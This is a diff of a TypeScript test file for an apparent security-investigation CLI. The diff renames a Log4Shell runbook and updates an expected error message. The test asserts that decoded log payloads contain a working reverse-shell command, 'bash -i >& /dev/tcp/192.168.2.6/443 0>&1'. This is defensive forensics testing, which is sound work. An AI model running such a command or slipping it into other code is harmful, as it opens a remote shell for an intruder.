@@ -65,14 +65,22 @@ describe('investigator logs', () => {
 
     const runbooks = await run('runbooks');
     expect(runbooks.stdout).toContain(
-      'log4shell-reverse-shell: Log4Shell reverse shell on a Linux web server',
+      "service-account-commands-and-connections: A Linux server's commands and outbound connections",
     );
-    const shell = await run('runbook', 'log4shell-reverse-shell', '--db', db, '--json', '--max-rows', '100');
+    const shell = await run(
+      'runbook',
+      'service-account-commands-and-connections',
+      '--db',
+      db,
+      '--json',
+      '--max-rows',
+      '100',
+    );
     expect(
       JSON.parse(shell.stdout).rows.map((row: { decoded_payload: unknown }) => row.decoded_payload),
     ).toContain('bash -i >& /dev/tcp/192.168.2.6/443 0>&1\n');
     const unknown = await run('runbook', 'nope', '--db', db);
-    expect(unknown.stderr).toMatch(/no runbook "nope"; expected one of cloudtrail-s3-exfiltration/);
+    expect(unknown.stderr).toMatch(/no runbook "nope"; expected one of federation-and-mailbox-timeline/);
     expect(process.exitCode).toBe(2);
     process.exitCode = undefined;
 
